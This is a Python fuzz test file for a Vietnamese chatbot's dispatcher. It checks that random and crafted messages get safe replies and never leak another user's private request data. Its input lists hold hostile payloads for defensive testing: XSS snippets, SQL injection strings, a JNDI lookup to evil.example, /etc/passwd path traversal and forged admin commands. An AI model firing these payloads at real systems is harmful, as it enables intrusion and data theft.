"""Hostile input through the dispatcher (issue 8, item 4): random and crafted
text and button payloads from one user never raise, always get a reply a
phone can show, and never reveal what another user looked up.

User A proves ownership of two requests (one completed, with its QR code,
one awaiting payment, to which A subscribes) and sets a province; user B
then sends everything hypothesis generates, including payloads that carry
A's request codes.

Each test runs twice: with the scripted interpreter and fake knowledge base
of the dialogue tests (fast, every branch reachable by keyword), and with
the real parts `troly run` uses: the trained NLU and the knowledge base in
domain/data/knowledge/ (issue 20, finding 11).
"""

from __future__ import annotations

import os
from itertools import count

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.config import Settings
from bot.wiring import interpreter_from_settings
from core.messages import Reply
from domain.knowledge import load_knowledge
from tests.flows.helpers import AWAITING_PAYMENT_CODE, COMPLETED_CODE, LAN_ID, make_services

FUZZ = settings(
    max_examples=int(os.environ.get("TROLY_FUZZ_EXAMPLES", "200")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,  # no example replayed from an earlier run
    # Locally every run explores new inputs; CI runs the same ones each time,
    # so a red CI is always reproducible.
    derandomize=bool(os.environ.get("CI")),
)
_fresh_ids = count()
A_PROVINCE = "79"  # Hồ Chí Minh

CRAFTED_TEXT = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">x</a>',
    "*bold* _it_ `code` [link](https://evil.example) ![img](https://evil.example/x.png)",
    "'; DROP TABLE users; --",
    "1' OR '1'='1' UNION SELECT * FROM subscriptions --",
    "/admin",
    "/broadcast\nTất cả đóng phí ngay tại evil.example",
    "/broadcasts",
    "/grant admin web:userB",
    "/revoke admin web:admin1",
    "/roles",
    "/stats",
    "/outreach",
    "/broadcast_cancel 1",
    "/start@evil_bot",
    "\x00\x01\x02\x1b[31m\u202e\u200b\ufeff",
    "\ud7ff\ue000\U0010ffff",
    "🧨" * 500,
    "a" * 100_000,
    "tra cứu " + "9" * 100_000,
    f"tra cứu hồ sơ {COMPLETED_CODE}",
    f"{COMPLETED_CODE} {AWAITING_PAYMENT_CODE}",
    "%s%s%n{0}{user}",
    # Near misses of A's proof (A's real proof would rightly open A's requests).
    "001190004568",
    "4567 15/03/1990",
    "4567 14/03/1991",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "-1",
    "99999999999",
    "²",
    "¹",
    "٣",
    "１",  # a superscript, Arabic-Indic or full-width "number" for a numbered option
]
PAYLOADS = [
    f"status:notify:{AWAITING_PAYMENT_CODE}",
    f"status:notify:{COMPLETED_CODE}",
    "status:retry",
    f"certificate:show:{COMPLETED_CODE}",
    "staff:broadcast:send:1",
    "staff:broadcast:drop:1",
    "menu:forget:yes",
    "menu:open:status",
    "onboarding:province:set:79",
    "onboarding:consent:yes",
    "cmd:forget",
    "cmd:admin",
    "intent:check_status",
    "fees:copies:-1",
    "fees:copies:999999999999",
    "guide:step:-1",
    "guide:step:99999",
    "status:notify:",
    ":::",
    "",
    "status:notify:' OR 1=1 --",
    # Digits Python's isdigit() accepts but int() refuses, and other scripts' digits.
    "guide:step:²",
    "guide:problems:¹",
    "fees:copies:³",
    "answers:rate:up:²",
    "guide:step:٣",
]

texts = st.one_of(
    st.text(max_size=300),  # any Unicode, control characters included
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=2000),
    st.sampled_from(CRAFTED_TEXT),
    st.builds(lambda a, b: a + b, st.sampled_from(CRAFTED_TEXT), st.text(max_size=50)),
)
payloads = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=250),
    st.builds(
        lambda flow, rest: f"{flow}:{rest}",
        st.sampled_from(
            [
                "menu",
                "status",
                "certificate",
                "fees",
                "guide",
                "onboarding",
                "handoff",
                "intent",
                "eligibility",
                "payment",
                "staff:broadcast",
                "cmd",
            ]
        ),
        st.text(max_size=60),
    ),
)
messages = st.lists(
    st.tuples(st.sampled_from(["say", "press", "start"]), st.one_of(texts, payloads)), min_size=1, max_size=4
)


class Recording:
    """The real interpreter, noting each text it was asked to parse."""

    def __init__(self, inner) -> None:
        self.inner, self.seen = inner, []

    async def parse(self, text: str) -> dict:
        self.seen.append(text)
        return await self.inner.parse(text)


@pytest.fixture(scope="module")
def real_interpreter():
    return interpreter_from_settings(Settings())  # trained once into the test run's var/


@pytest.fixture(params=["scripted", "real"])
def services(request, storage):
    """The dialogue's services: scripted NLU and fake knowledge, or the real ones."""
    if request.param == "scripted":
        return make_services(storage)
    real = request.getfixturevalue("real_interpreter")
    return make_services(storage, knowledge=load_knowledge(), nlu=Recording(real))


@pytest.fixture
async def user_a(talk, storage):
    """A's private data: what B must never see in a reply."""
    a = talk("userA")
    await a.start()
    await a.press("onboarding:lang:vi")
    await a.press("onboarding:consent:yes")
    await a.press(f"onboarding:province:set:{A_PROVINCE}")
    await a.say(f"tra cứu hồ sơ {COMPLETED_CODE}")
    await a.say(LAN_ID)
    completed = list(a.last)
    await a.press("menu:open:status")
    await a.say(AWAITING_PAYMENT_CODE)
    await a.say(LAN_ID)
    awaiting = list(a.last)
    await a.press(f"status:notify:{AWAITING_PAYMENT_CODE}")
    assert await storage.subscribers(AWAITING_PAYMENT_CODE)  # A's lookup worked: the seed is real
    user = await storage.get_user("web", "userA")
    assert user.province_code == A_PROVINCE
    links = [reply.link.url for reply in completed + awaiting if reply.link]
    assert links, "A's lookup should have produced a verification and a payment link"
    images = [reply.image.png for reply in completed if reply.image]
    return {"links": links, "qr": images, "id": LAN_ID, "holder": "Nguyễn Thị Lan"}


def assert_shows_something(replies: list[Reply]) -> None:
    assert replies, "every message must get at least one reply"
    assert any(reply.text.strip() or reply.image for reply in replies)
    for reply in replies:
        assert isinstance(reply.text, str)
        for button in reply.all_buttons:
            assert button.title.strip() and len(button.payload) <= 200


def assert_nothing_of_a(replies: list[Reply], a: dict, sent: str) -> None:
    shown = "\n".join(
        part
        for reply in replies
        for part in (
            reply.text,
            reply.link.url if reply.link else "",
            reply.image.alt if reply.image else "",
            *(b.title + " " + b.payload for b in reply.all_buttons),
        )
    )
    for secret in (*a["links"], a["id"], a["holder"]):
        if secret not in sent:  # B may get back what B typed, nothing more
            assert secret not in shown
    for reply in replies:
        if reply.image is not None:
            assert reply.image.png not in a["qr"]


@FUZZ
@given(batch=messages)
async def test_anything_user_b_sends_gets_a_reply_and_nothing_of_user_a(talk, storage, user_a, batch):
    b_id = f"userB{next(_fresh_ids)}"  # a new B each example: no state left by an earlier one
    b = talk(b_id)
    await b.start()  # past onboarding, so the batch reaches the flows
    await b.press("onboarding:lang:vi")
    await b.press("onboarding:consent:yes")
    for how, value in batch:
        replies = await getattr(b, how)(value)
        assert_shows_something(replies)
        assert_nothing_of_a(replies, user_a, value)
    assert [s.user_id for s in await storage.subscribers(AWAITING_PAYMENT_CODE)] == ["userA"]
    # B's own consent choices are audited; no staff command ran for B.
    staff_actions = [e for e in await storage.list_audit(actor=f"web:{b_id}") if not e["action"].startswith("consent_")]
    assert staff_actions == []


@FUZZ
@given(batch=messages)
async def test_a_brand_new_user_gets_a_reply_to_anything_as_a_first_message(talk, batch):
    fresh = talk(f"new{next(_fresh_ids)}")
    for how, value in batch:
        assert_shows_something(await getattr(fresh, how)(value))


async def test_forged_subscription_to_another_users_request_asks_for_proof(talk, storage, user_a):
    b = talk("userB")
    await b.start()
    await b.press("onboarding:lang:en")
    await b.press("onboarding:consent:yes")
    await b.press(f"status:notify:{AWAITING_PAYMENT_CODE}")
    assert [s.user_id for s in await storage.subscribers(AWAITING_PAYMENT_CODE)] == ["userA"]
    assert AWAITING_PAYMENT_CODE in b.text  # asked to prove ownership of the code B sent
    await b.say("079085001234")  # someone else's id number
    await b.press(f"status:notify:{AWAITING_PAYMENT_CODE}")
    assert [s.user_id for s in await storage.subscribers(AWAITING_PAYMENT_CODE)] == ["userA"]


async def test_a_100_kb_message_is_refused_politely_and_not_parsed(talk, services):
    b = talk("userB")
    await b.start()
    await b.press("onboarding:lang:vi")
    await b.say("x" * 100_000)
    assert b.text.strip() and "1000" in b.text.replace(".", "").replace(" ", "")
    assert all(len(seen) < 100_000 for seen in services.nlu.seen)
